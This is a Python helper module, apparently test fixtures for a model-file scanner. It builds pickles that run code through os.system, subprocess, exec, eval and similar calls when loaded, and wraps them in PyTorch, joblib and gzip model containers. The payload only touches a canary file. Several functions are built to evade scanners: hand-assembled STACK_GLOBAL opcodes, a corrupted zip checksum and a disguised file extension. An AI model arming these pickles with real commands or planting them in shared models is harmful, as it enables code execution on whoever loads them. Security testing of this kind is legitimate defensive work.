"""Pickles that make a file when somebody loads them, and the containers in which they travel as models."""

from __future__ import annotations

import gzip
import io
import pickle
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

PROTOCOLS = range(6)
_TORCH_MAGIC = 0x1950A86A20F9469CFC6C
"""What `torch.save` began its files with before they were zip archives."""


class _Call:
    """What a pickle can hold: a call of anything that can be imported."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self._call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self._call


def calls(canary: Path) -> Mapping[str, tuple[str, str, str]]:
    """Module, name and only argument of functions that make the file, each by another way into the system."""
    command, code = f"touch '{canary}'", f"open({str(canary)!r}, 'w')"
    return {
        "os.system": ("os", "system", command),
        "posix.system": ("posix", "system", command),
        "os.popen": ("os", "popen", command),
        "subprocess.getoutput": ("subprocess", "getoutput", command),
        "builtins.exec": ("builtins", "exec", code),
        "builtins.eval": ("builtins", "eval", code),
        "timeit.timeit": ("timeit", "timeit", code),
    }


def pickled(module: str, name: str, argument: str, *, protocol: int) -> bytes:
    """A pickle that calls a function of one text."""
    function = getattr(__import__(module), name)
    return pickle.dumps(_Call(function, argument), protocol)


def assembled(module: str, name: str, argument: str) -> bytes:
    """The same from hand-picked opcodes: the name is put together on the stack, which scanners of GLOBAL overlook."""
    names = b"".join(b"\x8c" + bytes([len(text)]) + text.encode() for text in (module, name))  # SHORT_BINUNICODE
    text = b"X" + len(argument).to_bytes(4, "little") + argument.encode()  # BINUNICODE
    return b"\x80\x04" + names + b"\x93" + text + b"\x85R."  # STACK_GLOBAL; TUPLE1, REDUCE, STOP


def broken_behind(pickle_bytes: bytes) -> bytes:
    """The call, and then nonsense in the place of the end: a loader has run the call before it fails."""
    return pickle_bytes[:-1] + b"\xff\xff"


def gzipped(data: bytes) -> bytes:
    """As .pkl.gz."""
    return gzip.compress(data, mtime=0)


def deflated(data: bytes) -> bytes:
    """As joblib packs."""
    return zlib.compress(data)


def torch_zip(data: bytes, *, member: str = "archive/data.pkl") -> bytes:
    """A file of `torch.save`."""
    return zipped([(member, data), ("archive/version", b"3\n"), ("archive/data/0", bytes(16))])


def torch_zip_with_wrong_checksum(data: bytes) -> bytes:
    """The same with a checksum that is wrong, which some scanners stop at and PyTorch does not."""
    whole = bytearray(torch_zip(data))
    place = whole.index(b"PK\x01\x02")
    whole[place + 16] ^= 0xFF
    return bytes(whole)


def torch_legacy(data: bytes) -> bytes:
    """A file of `torch.save` of before 1.6: pickles one behind the other."""
    return b"".join(pickle.dumps(head, 2) for head in (_TORCH_MAGIC, 1001, {"little_endian": True})) + data


def torch_tar(data: bytes) -> bytes:
    """A file of `torch.save` of before 0.1.10."""
    return tarred([("pickle", data), ("storages", b""), ("tensors", b"")])


def torch_script(data: bytes) -> bytes:
    """A file of `torch.jit.save` with the pickle in the place of its constants and tensors."""
    return zipped(
        [("m/data.pkl", data), ("m/constants.pkl", data), ("m/code/__torch__.py", b""), ("m/version", b"3\n")]
    )


def torch_export(data: bytes) -> bytes:
    """A file of `torch.export.save` with the pickle as its weights."""
    return zipped(
        [("m/archive_format", b"pt2"), ("m/models/model.json", b"{}"), ("m/data/weights/model.pt", data)],
    )


def zipped(members: Sequence[tuple[str, bytes]]) -> bytes:
    """A zip archive of these members, all of one time."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data)
    return buffer.getvalue()


def tarred(members: Sequence[tuple[str, bytes]], *links: tuple[str, str]) -> bytes:
    """A tar archive of files, and of symbolic links with what they lead to."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, target in links:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return buffer.getvalue()


CONTAINERS: Mapping[str, tuple[str, Callable[[bytes], bytes]]] = {
    "plain": ("model.pkl", bytes),
    "under another name": ("model.tflite", bytes),
    "gzip": ("model.pkl.gz", gzipped),
    "joblib": ("model.joblib", deflated),
    "torch.save": ("model.pt", torch_zip),
    "torch.save, other member": ("model.pth", lambda data: torch_zip(data, member="archive/config.p")),
    "torch.save, wrong checksum": ("model.pt", torch_zip_with_wrong_checksum),
    "torch.save of 1.5": ("model.pt", torch_legacy),
    "torch.save of 0.1": ("model.pt", torch_tar),
    "torch.jit.save": ("model.pt", torch_script),
    "torch.export.save": ("model.pt2", torch_export),
}
"""Name of the file and how the pickle is packed, by what writes such files."""
